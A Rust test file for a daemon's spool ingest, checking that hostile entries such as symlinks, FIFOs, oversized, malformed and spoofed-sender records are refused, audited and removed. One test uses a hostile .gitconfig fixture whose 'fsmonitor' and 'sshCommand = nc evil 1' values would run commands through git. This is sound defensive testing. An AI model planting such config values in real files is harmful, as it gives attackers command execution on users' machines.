//! The backend's spool ingest against hostile spool entries, without D-Bus: every bad
//! entry is refused, audited and removed; good ones next to it still arrive; nothing
//! panics and nothing outside the spool is read or touched.

use std::os::unix::fs::symlink;
use std::path::Path;
use std::sync::Arc;

use qcs_daemon::backend::{Backend, BackendConfig};
use qcs_protocol::literal::{pid, rp, vm};

fn backend(dir: &Path) -> Arc<Backend> {
    let config = BackendConfig {
        store_path: dir.join("store.sqlite"),
        spool_dir: Some(dir.join("spool")),
        qrexec_program: "/nonexistent/qrexec-client-vm".into(),
        max_parallel: 2,
        config_qube: "cfg".to_owned(),
        call_timeout: std::time::Duration::from_secs(5),
    };
    // No Admin API is needed for the spool; calls would fail cleanly.
    let admin = qubesadmin::Qubes::new(qubesadmin::SocketTransport::new(dir.join("no.sock")));
    let backend = Arc::new(Backend::open(config, admin).expect("open"));
    backend
        .with_store(|s| {
            s.create_profile(&pid("git"), "")?;
            s.put_file(
                &pid("git"),
                &rp(".gitconfig"),
                b"[user]\n\tname = A\n",
                0o644,
            )?;
            s.allow_proposals(&vm("work"), &pid("git"))?;
            Ok(())
        })
        .expect("setup");
    backend
}

fn spool_entries(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| !n.starts_with('.'))
                .collect()
        })
        .unwrap_or_default()
}

fn refusals(backend: &Backend) -> usize {
    backend
        .with_store(|s| Ok(s.audit_log(0, 10_000)?))
        .expect("audit")
        .iter()
        .filter(|e| e.action == "proposal-refused")
        .count()
}

/// Refusals counted, aggregated per qube × reason × window.
fn refused_count(backend: &Backend) -> u64 {
    backend
        .with_store(|s| Ok(s.intake_refusals(None)?))
        .expect("refusals")
        .iter()
        .map(|r| r.count)
        .sum()
}

/// A good spool record from `sender` with `content`, as the receiver writes it.
fn record(sender: &str, content: &[u8]) -> Vec<u8> {
    use qcs_protocol::{
        Content, ObservedMode, ProposalId, ProposeRequest, ProposedFile, SpooledProposal, Version,
    };
    let profile = qcs_protocol::profile::validate_profile_id("git").expect("profile");
    let content = Content::new(content.to_vec()).expect("content");
    qcs_protocol::to_json(&SpooledProposal {
        version: Version,
        proposal_id: ProposalId::parse("00000000000000000001-1").expect("id"),
        source_qube: qcs_protocol::validate_vm_name(sender).expect("name"),
        profile: profile.clone(),
        received_unix: 1,
        request: ProposeRequest {
            version: Version,
            profile,
            files: vec![ProposedFile {
                path: qcs_protocol::path::validate_relative_path(".gitconfig").expect("path"),
                mode: ObservedMode::new(0o644),
                sha256: content.sha256(),
                content,
                base_sha256: None,
            }],
            note: None,
        },
    })
}

#[test]
fn hostile_spool_entries_are_refused_audited_and_removed() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let backend = backend(tmp.path());
    let work = tmp.path().join("spool/work");
    std::fs::create_dir_all(&work).expect("spool dir");
    let secret = tmp.path().join("secret");
    std::fs::write(&secret, record("work", b"from outside the spool")).expect("secret");

    // A symlink to a file outside the spool (even one that parses).
    symlink(&secret, work.join("1-symlink.json")).expect("symlink");
    // A FIFO: must not block the backend.
    rustix::fs::mknodat(
        rustix::fs::CWD,
        work.join("2-fifo.json"),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o600),
        0,
    )
    .expect("fifo");
    // Over the size cap.
    std::fs::write(
        work.join("3-huge.json"),
        vec![b' '; qcs_protocol::limits::MAX_REQUEST_BYTES + 1],
    )
    .expect("huge");
    // Not JSON, deeply nested JSON, and a record claiming another sender.
    std::fs::write(work.join("4-garbage.json"), b"\xff\xfe not json").expect("garbage");
    std::fs::write(work.join("5-deep.json"), "[".repeat(100_000)).expect("deep");
    std::fs::write(work.join("6-other-sender.json"), record("vault", b"x\n")).expect("other");
    // A temporary file of the receiver (not complete yet): left alone.
    std::fs::write(work.join(".tmp-partial"), b"{").expect("tmp");
    // And one good proposal among them.
    std::fs::write(
        work.join("7-good.json"),
        record("work", b"[user]\n\tname = B\n"),
    )
    .expect("good");
    // A directory for a name that is not a qube name.
    std::fs::create_dir_all(tmp.path().join("spool/..bad name")).expect("bad dir");

    let ingested = backend.ingest_spool().expect("ingest");
    assert_eq!(ingested, 1);
    assert_eq!(refused_count(&backend), 6);
    // One audit row per reason (unreadable, other sender), not one per entry.
    assert_eq!(refusals(&backend), 2);
    assert_eq!(spool_entries(&work), Vec::<String>::new());
    assert!(
        work.join(".tmp-partial").exists(),
        "a partial file was touched"
    );
    assert!(secret.exists(), "the symlink target was touched");
    let pending = backend.list_proposals("pending").expect("list");
    assert_eq!(pending.proposals.len(), 1);
    assert_eq!(pending.proposals[0].source_qube, "work");
    // The store keeps the sender the spool directory named, as a qube name.
    let stored = backend
        .with_store(|s| Ok(s.proposal(pending.proposals[0].id)?))
        .expect("proposal")
        .expect("exists");
    assert_eq!(stored.source_qube, vm("work"));
}

#[test]
fn a_spool_file_ingested_twice_is_one_proposal() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let backend = backend(tmp.path());
    let work = tmp.path().join("spool/work");
    std::fs::create_dir_all(&work).expect("spool dir");
    let bytes = record("work", b"[user]\n\tname = C\n");
    // As after a crash between the store's commit and the file's removal.
    std::fs::write(work.join("1.json"), &bytes).expect("write");
    assert_eq!(backend.ingest_spool().expect("ingest"), 1);
    std::fs::write(work.join("1.json"), &bytes).expect("write again");
    assert_eq!(backend.ingest_spool().expect("ingest"), 0);
    assert_eq!(backend.pending_count().expect("count"), 1);
}

#[test]
fn accept_needs_every_critical_finding_acknowledged() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let backend = backend(tmp.path());
    let work = tmp.path().join("spool/work");
    std::fs::create_dir_all(&work).expect("spool dir");
    let hostile = b"[user]\n\tname = A\n[core]\n\tfsmonitor = /tmp/x\n\tsshCommand = nc evil 1\n";
    std::fs::write(work.join("1.json"), record("work", hostile)).expect("write");
    backend.ingest_spool().expect("ingest");
    let id = backend.list_proposals("pending").expect("list").proposals[0].id;
    let view = backend.get_proposal(id).expect("get");
    assert!(
        view.must_acknowledge.len() >= 2,
        "{:?}",
        view.must_acknowledge
    );
    // One acknowledgement missing: refused, nothing stored.
    let some = vec![view.must_acknowledge[0].clone()];
    let err = backend
        .accept_proposal(id, &view.digest, &[], &some, "", "test")
        .expect_err("one critical finding is not acknowledged");
    assert!(err.to_string().contains(&view.must_acknowledge[1]), "{err}");
    assert_eq!(backend.pending_count().expect("count"), 1);
    // An unknown hunk id is an error, not a silent accept of everything.
    let err = backend
        .accept_proposal(
            id,
            &view.digest,
            &["nope".to_owned()],
            &view.must_acknowledge,
            "",
            "test",
        )
        .expect_err("unknown hunk");
    assert!(err.to_string().contains("nope"), "{err}");
    // All acknowledged: accepted.
    backend
        .accept_proposal(
            id,
            &view.digest,
            &[],
            &view.must_acknowledge,
            "reviewed",
            "D-Bus AcceptProposal from :1.9",
        )
        .expect("accept");
    // The audit entry of the accept says what was acknowledged, on which review, by whom;
    // the refused attempts left none.
    let accepts: Vec<_> = backend
        .audit_view(0, 10_000)
        .expect("audit")
        .entries
        .into_iter()
        .filter(|e| e.action == "proposal-accepted" && e.proposal_id == Some(id))
        .collect();
    assert_eq!(accepts.len(), 1);
    let detail = &accepts[0].detail;
    assert_eq!(detail["digest"], view.digest.as_str());
    assert_eq!(
        detail["acknowledged"],
        serde_json::json!(view.must_acknowledge)
    );
    assert_eq!(detail["by"], "D-Bus AcceptProposal from :1.9");
    assert_eq!(detail["note"], "reviewed");
    let stored = backend
        .with_store(|s| Ok(s.current_file(&pid("git"), &rp(".gitconfig"))?))
        .expect("file")
        .expect("exists");
    assert_eq!(stored.bytes, hostile);
    // Decided once only.
    assert!(backend.reject_proposal(id, "").is_err());
}
